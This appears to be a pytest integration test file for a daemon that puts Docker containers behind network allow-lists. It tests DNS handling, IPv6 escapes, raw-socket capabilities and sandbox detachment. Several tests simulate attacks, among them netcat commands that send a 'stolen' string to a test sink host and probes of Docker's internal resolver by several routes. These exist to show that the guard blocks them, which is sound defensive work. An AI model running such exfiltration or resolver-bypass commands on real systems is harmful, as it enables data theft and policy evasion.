"""Containers of a real engine under the node daemon: found by their names, guarded from outside, let go with them."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from lab import plan
from lab.daemon import Daemon, Sandbox, running
from lab.engine import IMAGE, MACHINE, Engine, engine
from lab.guarded import (
    ADDRESS,
    NEIGHBOUR,
    NETWORK,
    NOWHERE,
    NOWHERE6,
    SEND,
    WITH_ATTACKS,
    ask_dockers_resolver,
    page,
    pinned,
    reaches,
    shop,
    show_leak,
    user_defined_network,
)
from lab.internet import Internet
from lab.processes import check, wait_until
from lab.sandgate import allowing

WITHOUT_RAW = ("--cap-drop", "NET_RAW")


@pytest.fixture(scope="module")
def docker(net: Internet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    with engine(net, tmp_path_factory.mktemp("engine")) as made:
        made.make_machine_image()
        yield made


@pytest.fixture
def daemon(internet: Internet, docker: Engine, tmp_path: Path) -> Iterator[Daemon]:
    configuration = tmp_path / "configuration.yaml"
    configuration.write_text(f"containerSockets: [/nowhere/docker.sock, {docker.socket}]\n")
    with running(internet, tmp_path, "--config", str(configuration)) as made:
        yield made


def attach(daemon: Daemon, container: str, policy: object, **fields: object) -> Sandbox:
    return daemon.create(policy, attachment={"container": container, **fields})


def fetched(docker: Engine, container: str, name: str) -> bool:
    """Whether a program in a container gets a page of a web server."""
    return f"served {name}" in docker.run(container, "/usr/bin/curl", "-sS", "-m", "5", f"http://{name}/").stdout


@pytest.mark.attack("N1 T6", "sends from a container, and from one that joins its network", stopped_by="kernel")
def test_container_is_guarded(internet: Internet, daemon: Daemon, docker: Engine) -> None:
    container = docker.start(*WITHOUT_RAW)
    send = ("/bin/sh", "-c", f"echo stolen | nc -w 2 {plan.SINK4} 4444")
    assert docker.run(container, *send).returncode == 0
    assert "stolen" in internet.sinks.data()
    sandbox = attach(daemon, container, allowing(plan.ALLOWED))
    assert docker.run(container, *send).returncode != 0 and internet.sinks.data() == ""
    assert fetched(docker, container, plan.ALLOWED) and not fetched(docker, container, plan.DENIED)
    assert internet.web.hosts() == {plan.ALLOWED}
    # Of what joins its network, the same is true.
    joined = ("--network", f"container:{container}", IMAGE)
    output = docker.docker("run", "--rm", *WITHOUT_RAW, *joined, "/bin/sh", "-c", f"{send[-1]} || echo refused")
    assert output == "refused" and internet.sinks.data() == ""
    # Restarted, it has another network, which nobody guards: the sandbox is gone, and says so.
    docker.docker("restart", "--time", "0", container)
    sandbox.wait_for("gone")
    assert [record["event"] for record in daemon.records(sandbox=sandbox.id)][-1] == "sandbox.detached"


@pytest.mark.attack(
    "T4", "sends as its very first act in a container that joins a guarded network", stopped_by="kernel"
)
def test_network_is_guarded_before_the_workload_begins(internet: Internet, daemon: Daemon, docker: Engine) -> None:
    """The way without a race: a container that does nothing holds the network, and the workload joins it."""
    holder = docker.start(*WITHOUT_RAW, "--name", "holder")
    attach(daemon, "holder", allowing(plan.ALLOWED), inbound="none")
    script = f"echo early | nc -w 1 {plan.SINK4} 4444; curl -sS -m 5 http://{plan.ALLOWED}/"
    output = docker.docker("run", "--rm", *WITHOUT_RAW, "--network", "container:holder", IMAGE, "/bin/sh", "-c", script)
    assert f"served {plan.ALLOWED}" in output and internet.sinks.data() == ""
    docker.docker("rm", "--force", holder)


@pytest.mark.attack(
    "T4", "floods from its first instruction in a network that leads nowhere but to the daemon", stopped_by="kernel"
)
def test_network_that_leads_nowhere_unless_it_is_guarded(internet: Internet, daemon: Daemon, docker: Engine) -> None:
    show_leak(internet, docker, "/bin/sh", "-c", f"{SEND}; sleep 600")
    holder = docker.start("--network", "none", "--cap-drop", "ALL", "--name", "box-net")
    process = docker.inspect(holder, "{{.State.Pid}}")
    check("nsenter", f"--net=/proc/{process}/ns/net", "/bin/sh", "-c", NOWHERE)

    def workload() -> str:
        script = f"{SEND}; curl -sS -m 5 http://{plan.ALLOWED}/; curl -sS -m 5 http://{plan.DENIED}/; true"
        joined = ("run", "--rm", "--cap-drop", "ALL", "--network", "container:box-net", IMAGE)
        return docker.docker(*joined, "/bin/sh", "-c", script)

    assert "served" not in workload(), "before it is attached"
    sandbox = attach(daemon, "box-net", allowing(plan.ALLOWED), inbound="none")
    output = workload()
    assert f"served {plan.ALLOWED}" in output and f"served {plan.DENIED}" not in output
    assert sandbox.ask("DELETE").status == 204
    assert "served" not in workload(), "after it is let go"
    assert internet.sinks.data() == "" and internet.web.hosts() == {plan.ALLOWED}
    docker.docker("rm", "--force", holder)


@pytest.mark.attack(
    "N1 N3", "sends by IPv6 in a network that leads nowhere but to the daemon", stopped_by="kernel, dns"
)
def test_ipv6_where_nothing_leads(internet: Internet, daemon: Daemon, docker: Engine) -> None:
    """Docker disables it in containers without a network: the page says how to have it."""
    unenforced = internet.unenforced(["curl", "-sS", "-m", "5", "-6", f"http://{plan.DENIED}/"])
    assert f"served {plan.DENIED}" in unenforced.stdout
    internet.forget()
    for option in ((), ("--sysctl", "net.ipv6.conf.all.disable_ipv6=0")):
        holder = docker.start("--network", "none", "--cap-drop", "ALL", "--name", "box-net", *option)
        network = ("nsenter", f"--net=/proc/{docker.inspect(holder, '{{.State.Pid}}')}/ns/net", "/bin/sh", "-c")
        check(*network, NOWHERE)
        if not option:
            with pytest.raises(RuntimeError, match="IPv6 is disabled"):
                check(*network, NOWHERE6)
            docker.remove(holder)
    check(*network, NOWHERE6)
    attach(daemon, "box-net", allowing(plan.ALLOWED), inbound="none")
    workload = docker.start("--cap-drop", "ALL", "--network", "container:box-net")
    assert reaches(docker, workload, plan.ALLOWED, "-6") and reaches(docker, workload, plan.ALLOWED, "-4")
    assert not reaches(docker, workload, plan.DENIED, "-6") and not reaches(docker, workload, plan.OTHER, "-6")
    assert not reaches(docker, workload, plan.DENIED, "-6", *pinned(plan.DENIED, f"[{plan.DENIED6}]"))
    assert internet.web.hosts() == {plan.ALLOWED}
    docker.remove(workload, holder)


@pytest.mark.attack(
    "T10 T10a", "is a container with Docker's default capabilities, CAP_NET_RAW among them", stopped_by="start"
)
def test_docker_default_capabilities_are_refused(internet: Internet, daemon: Daemon, docker: Engine) -> None:
    container = docker.start()
    body = {"attachment": {"container": container}, "networkPolicy": allowing(plan.ALLOWED)}
    refused = daemon.request("POST", "/v1/sandboxes", body)
    assert refused.status == 422 and "CAP_NET_RAW" in refused.text and "acceptRawSockets" in refused.text, refused
    sandbox = attach(daemon, container, allowing(plan.ALLOWED), acceptRawSockets=True)
    assert sandbox.ask("GET").json["acceptedRisks"] != []
    assert fetched(docker, container, plan.ALLOWED) and not fetched(docker, container, plan.DENIED)
    assert sandbox.ask("DELETE").status == 204
    assert fetched(docker, container, plan.ALLOWED) is False  # nobody resolves for it any more
    docker.docker("rm", "--force", container)


@pytest.mark.attack(
    "D2 T14",
    "asks Docker's own resolver in a user-defined network, on port 53 and where it really listens, over UDP and TCP, from "
    "every address, with raw packets and with frames on the loopback",
    stopped_by="kernel",
)
def test_dockers_resolver_is_out_of_reach(daemon: Daemon, docker: Engine) -> None:
    with user_defined_network(docker) as network:
        # Without which the kernel drops what a frame brings to a loopback address.
        routed = ("--sysctl", "net.ipv4.conf.all.route_localnet=1")
        container = docker.start("--network", network, *routed, *WITH_ATTACKS, image=MACHINE)
        answered = ask_dockers_resolver(docker, container, container, "neighbour")
        ways = {"tcp-53", "udp-53", "tcp-0", "udp-0-from-0.0.0.0", "udp-0-mapped", "raw-0", "packet-0"}
        assert ways <= answered.keys() and set(answered.values()) == {NEIGHBOUR}, answered
        attach(daemon, container, allowing(plan.ALLOWED), acceptRawSockets=True)
        assert ask_dockers_resolver(docker, container, container, "neighbour") == {}
        # Names that the policy allows are resolved as everywhere: resolv.conf names Docker's resolver, and ours answers.
        assert "127.0.0.11" in docker.run(container, "/bin/cat", "/etc/resolv.conf").stdout
        assert fetched(docker, container, plan.ALLOWED) and not fetched(docker, container, plan.DENIED)
        docker.docker("rm", "--force", container)


@pytest.fixture
def network(docker: Engine) -> Iterator[str]:
    with shop(docker) as made:
        yield made


@pytest.mark.honest("another container of a user-defined network, by its name")
def test_names_of_other_containers(internet: Internet, daemon: Daemon, docker: Engine, network: str) -> None:
    container = docker.start(*WITHOUT_RAW, "--network", network)
    try:
        own = docker.inspect(container, ADDRESS)
        policy = allowing("shop", "absent", "10.90.0.0/24", plan.ALLOWED)
        ways: tuple[tuple[dict[str, object], bool], ...] = (({}, False), ({"upstreamInside": True, "dockerNames": True}, True))
        for fields, expected in ways:
            sandbox = attach(daemon, container, policy, **fields)
            assert ("Directory listing" in page(docker, container, "http://shop/")) is expected
            # The other container sees this one's address.
            assert (f"{own} - - " in docker.logs("shop")) is expected
            # Other names go to the daemon's nameserver, and what the policy does not allow nowhere.
            assert fetched(docker, container, plan.ALLOWED) and not fetched(docker, container, plan.DENIED)
            assert page(docker, container, "http://neighbour/") == ""
            assert internet.dns.names() == {plan.ALLOWED} | (set() if expected else {"shop"})
            # A name that no container has is none, after a moment: Docker asks outside, which is our own resolver.
            begin = time.monotonic()
            assert "Could not resolve host" in docker.run(container, "/usr/bin/curl", "-sS", "http://absent/").stderr
            assert time.monotonic() - begin < 10
            internet.forget()
            denied = {record["host"] for record in daemon.records(sandbox=sandbox.id, verdict="deny") if "host" in record}
            assert {plan.DENIED, "neighbour", "absent"} <= denied and ("shop" in denied) is not expected
            daemon.restart()
            assert ("Directory listing" in page(docker, container, "http://shop/")) is expected
            assert sandbox.ask("DELETE").status == 204
            internet.forget()
    finally:
        docker.docker("rm", "--force", container)


@pytest.mark.honest("another container of a user-defined network, by a name with a dot")
def test_names_with_a_dot(internet: Internet, daemon: Daemon, docker: Engine, network: str) -> None:
    container = docker.start(*WITHOUT_RAW, "--network", network)
    try:
        names = ("shop.internal", f"shop.{NETWORK}")
        policy = allowing(*names, "other.internal", "10.90.0.0/24", plan.ALLOWED)
        ways: tuple[tuple[dict[str, object], bool], ...] = (({}, False), ({"dockerDomains": ["internal", names[1]]}, True))
        for fields, expected in ways:
            sandbox = attach(daemon, container, policy, upstreamInside=True, dockerNames=True, **fields)
            for name in names:
                assert ("Directory listing" in page(docker, container, f"http://{name}/")) is expected
            # One that no container has is none, and nobody else is asked of it.
            assert page(docker, container, "http://other.internal/") == ""
            assert fetched(docker, container, plan.ALLOWED)
            assert internet.dns.names() == {plan.ALLOWED} | (set() if expected else {*names, "other.internal"})
            assert sandbox.ask("DELETE").status == 204
            internet.forget()
    finally:
        docker.docker("rm", "--force", container)


@pytest.mark.attack(
    "D2 T14",
    "asks Docker's own resolver by every way, while the daemon may, in a user-defined network",
    stopped_by="kernel",
)
def test_dockers_resolver_is_out_of_reach_where_the_daemon_asks_it(daemon: Daemon, docker: Engine, network: str) -> None:
    container = docker.start(*WITHOUT_RAW, "--network", network, *WITH_ATTACKS, image=MACHINE)
    try:
        answered = ask_dockers_resolver(docker, container, container, "neighbour")
        assert {"tcp-53", "udp-53", "tcp-0", "udp-0-from-0.0.0.0", "udp-0-mapped"} <= answered.keys(), answered
        attach(daemon, container, allowing("shop", "10.90.0.0/24"), upstreamInside=True, dockerNames=True)
        assert "Directory listing" in page(docker, container, "http://shop/")
        assert ask_dockers_resolver(docker, container, container, "neighbour") == {}
    finally:
        docker.docker("rm", "--force", container)


def test_containers_that_cannot_be_attached(daemon: Daemon, docker: Engine) -> None:
    stopped = docker.docker("create", IMAGE, "/bin/true")
    for name, words in (("absent", "there is no container absent"), (stopped, "does not run")):
        answer = daemon.request("POST", "/v1/sandboxes", {"attachment": {"container": name}})
        assert answer.status == 422 and words in answer.text and "attachment.container" in answer.text, answer
    docker.docker("rm", "--force", stopped)


def test_sandbox_goes_with_its_container(daemon: Daemon, docker: Engine) -> None:
    container = docker.start(*WITHOUT_RAW)
    sandbox = attach(daemon, container, allowing(plan.ALLOWED))
    daemon.restart()
    assert sandbox.state == "Running"
    docker.docker("rm", "--force", container)
    sandbox.wait_for("gone")
    again = docker.start(*WITHOUT_RAW)
    assert attach(daemon, again, allowing(plan.ALLOWED)).state == "Running"
    wait_until(lambda: len(daemon.request("GET", "/v1/sandboxes").json["items"]) == 1, "the list")
    docker.docker("rm", "--force", again)
